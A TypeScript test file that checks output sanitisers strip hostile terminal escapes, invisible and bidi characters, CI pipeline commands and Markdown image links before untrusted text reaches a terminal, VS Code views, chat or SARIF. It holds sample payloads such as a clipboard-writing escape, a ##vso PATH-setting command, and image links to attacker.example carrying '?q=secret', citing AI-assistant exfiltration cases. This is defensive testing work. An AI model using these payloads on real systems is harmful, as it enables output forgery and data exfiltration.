import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, it } from "mocha";
import {
  hasInvisible,
  itemText,
  jsonText,
  markdownText,
  notificationText,
  plainLine,
  plainText,
  terminalText,
} from "../../schemas/plain-text.ts";
import { openTerminal } from "../../server/surfaces/cli/display/terminal.ts";
import { colouredDiff, findingLines } from "../../server/surfaces/cli/display/summary.ts";
import { sarifText } from "../../server/surfaces/cli/display/sarif-file.ts";
import { describeFinding } from "../../server/surfaces/lsp/diagnostics.ts";
import { createLocalizer } from "../../schemas/localizer.ts";
import { summarise } from "../../client/chat/summary.ts";
import { code } from "../../client/tree/item.ts";
import { aFinding } from "../support/records.ts";

const ESC = "\u001b";
/** What a terminal takes for an instruction. */
const sequences: Readonly<Record<string, string>> = {
  "write to the clipboard": `${ESC}]52;c;ZXZpbA==\u0007`,
  "make a link": `${ESC}]8;;https://evil.example${ESC}\\text${ESC}]8;;${ESC}\\`,
  "clear the screen": `${ESC}[2J${ESC}[H`,
  "move up and write over a line": `${ESC}[1A${ESC}[2K`,
  "hide text": `${ESC}[8m`,
  "change the title": `${ESC}]0;evil\u0007`,
  "ask the terminal to answer": `${ESC}[6n`,
  "begin with an 8-bit control": "\u009b2J\u009d52;c;x\u009c",
  "go back over a line": "real\rforged",
  "erase with backspaces": "real\b\b\b\bforged",
  "turn the direction": "a\u202eb\u2066c",
  "write in tags": "\u{e0041}\u{e0042}",
  "hide blanks": "a\u200bb\u2060c\ufeff",
  "write black on black": `${ESC}[30m${ESC}[40mhidden`,
  "reverse the colours": `${ESC}[7mforged`,
  "spell a text in selectors of pictures": "❤\ufe0f\ufe0f\ufe0e\ufe0f",
  "spell a text in selectors after letters": "a\ufe0eb\ufe0f",
  "join letters by way of a private character": "a\u200db",
  "name a file with a blank that is a letter": "a\u2800.ts",
  "give GitHub Actions a command": "\n  ::add-mask::x",
  "give GitHub Actions a command after blanks that are no spaces": "\n\u00a0\u3000::add-mask::x",
  "give GitHub Actions a command in the old form": "a ##[command]x",
  "give Azure Pipelines a command": "a ##vso[task.setvariable variable=PATH]x",
  "give TeamCity a command": "##teamcity[testFinished name='x']",
};

describe("text of others in a terminal", () => {
  for (const [name, text] of Object.entries(sequences))
    it(`cannot ${name}`, () => {
      const shown = terminalText(`before ${text} after`);
      assert.doesNotMatch(
        shown,
        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\u2800\ufeff]|\ufe0f\ufe0f|^\s*::|##\[|##vso|##team/m,
      );
      assert.match(shown, /<U\+/);
    });

  it("keeps the styles of our own lines, tabs, umlauts and emoji", () => {
    for (const text of [
      `${ESC}[32m✔${ESC}[39m ok`,
      "a\tb\nc",
      "Ärger 日本 👩‍👩‍👧 ❤️ 1️⃣ 👁️‍🗨️",
      "\ue0ff",
      "a::b ## c #1",
    ])
      assert.equal(terminalText(text), text);
  });

  it("makes no line of ours: names are on one line", () => {
    const forged = "x.ts\n✔ Every gate held.";
    const plain = { style: (_: unknown, text: string) => text };
    const lines = findingLines([aFinding({ path: forged, title: forged, explanation: forged })], plain);
    assert.ok(!lines.split("\n").includes("✔ Every gate held."), lines);
  });

  it("passes the door of every command", () => {
    const written: string[] = [];
    const stream = {
      isTTY: true,
      columns: 80,
      hasColors: () => true,
      write: (text: string) => written.push(text),
    };
    // The little of a stream that a terminal uses.
    const terminal = openTerminal(stream as never, stream as never, {});
    terminal.out(`${terminal.style("red", "x")} ${sequences["clear the screen"]}`);
    terminal.err(sequences["write to the clipboard"] ?? "");
    terminal.out(JSON.stringify({ path: "a\u202eb\u009bc" }));
    assert.doesNotMatch(written.join(""), /\u001b\[2J|\u001b\]52|\u202e|\u009b/);
    assert.deepEqual(JSON.parse(written[2] ?? ""), { path: "a\u202eb\u009bc" });
    const command = { title: "##vso[task.setvariable]x\n::warning::x" };
    terminal.out(JSON.stringify(command, null, 2));
    assert.doesNotMatch(written[3] ?? "", /##vso/);
    assert.deepEqual(JSON.parse(written[3] ?? ""), command);
    assert.match(colouredDiff(`+${sequences["turn the direction"] ?? ""}`, terminal), /\+/);
  });

  it("is the only way to the streams of a command", () => {
    const folder = join(import.meta.dirname, "../../server/surfaces/cli");
    const around = readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && entry.name.endsWith(".ts"))
      .map((entry) => join(entry.parentPath, entry.name))
      .filter((path) =>
        /console\.(?!anthropic\b)|process\.stdout\.write\((?!"")/.test(readFileSync(path, "utf8")),
      );
    assert.deepEqual(around, []);
  });
});

describe("text of others elsewhere", () => {
  it("makes no link in a notification", () => {
    const shown = notificationText(
      "[Open](command:workbench.action.terminal.sendSequence?x) [a](https://e.example)",
    );
    assert.doesNotMatch(shown, /\]\(/);
  });

  it("reaches a notification through one door", () => {
    const client = join(import.meta.dirname, "../../client");
    const around = readdirSync(client, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && entry.name.endsWith(".ts") && entry.name !== "say.ts")
      .map((entry) => join(entry.parentPath, entry.name))
      .filter((path) =>
        /show(Information|Warning|Error)Message|ProgressLocation\.Notification/.test(
          readFileSync(path, "utf8"),
        ),
      );
    assert.deepEqual(around, []);
  });

  it("loads nothing in a hover", () => {
    const explanation = '![a](https://e.example/?x) <img src="https://e.example/y"> <IMG src=z> a\u202eb';
    const shown = describeFinding(aFinding({ explanation }), createLocalizer({}));
    assert.doesNotMatch(shown, /!\[|(?<!\\)<img|\u202e/i);
  });

  it("loads nothing in chat, whose view shows the pictures of a Markdown text (CVE-2025-53773, EchoLeak)", () => {
    const picture =
      "x\n\n![x](https://attacker.example/?q=secret) <img src=https://attacker.example> [y](command:z)";
    const proof = { gate: "green", held: false, reason: picture };
    const finding = { severity: "Warning", title: picture, path: `src/${picture}`, start_line: 1 };
    const change = { path: picture, lines_added: 1, lines_removed: 0, decision: "Pending" };
    const end = {
      status: "GateFailed" as const,
      stages: [{ gates: [proof] }],
      changes: [change],
      findings: [finding],
      error: { message: picture, next_step: picture },
    };
    const shown = summarise({ run: { changes: [change] }, end }, createLocalizer({}));
    assert.equal(shown.match(/attacker/g)?.length, 12);
    assert.doesNotMatch(shown, /(?<!\\)[<[]|\]\(|!\[/);
    assert.doesNotMatch(code(picture), /\n/);
  });

  it("has no links in SARIF messages", () => {
    const link = "[Open](https://attacker.example)";
    const finding = aFinding({ title: `a\u202eb ${link}`, explanation: link, path: "x\u200b.ts" });
    const sarif = sarifText([finding], [], "/nowhere");
    assert.doesNotMatch(sarif, /\u202e|\u200b|\]\(/);
  });

  it("makes no icon in a list, where VS Code shows `$(name)` as an icon", () => {
    assert.equal(itemText("$(pass) Every gate held.\n$(x)"), "$ (pass) Every gate held. $ (x)");
  });

  it("is marked as invisible in a change, and ordinary text is not", () => {
    for (const text of ["if (a\u202e) {", "x\u200b = 1", "\u{e0041}", "name\u3164", "a\ufe0fb", "x\u2800"])
      assert.equal(hasInvisible(text), true, text);
    for (const text of ["\ufefffirst\r\nsecond\r\n", "👩‍👩‍👧", "naïve\tцвет"])
      assert.equal(hasInvisible(text), false, text);
  });

  it("loses nothing that is seen, and is safe twice as once", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 80 }), (text) => {
        for (const show of [plainText, plainLine, terminalText, notificationText]) {
          const once = show(text);
          assert.equal(show(once), once);
          assert.equal(hasInvisible(once.replaceAll(/\u001b\[\d+m/g, "")), false);
        }
        assert.deepEqual(JSON.parse(jsonText(JSON.stringify(text))), text);
        assert.doesNotMatch(markdownText(text), /(?<!\\)[[\]<>`!]/);
      }),
      { numRuns: 100 },
    );
  });
});
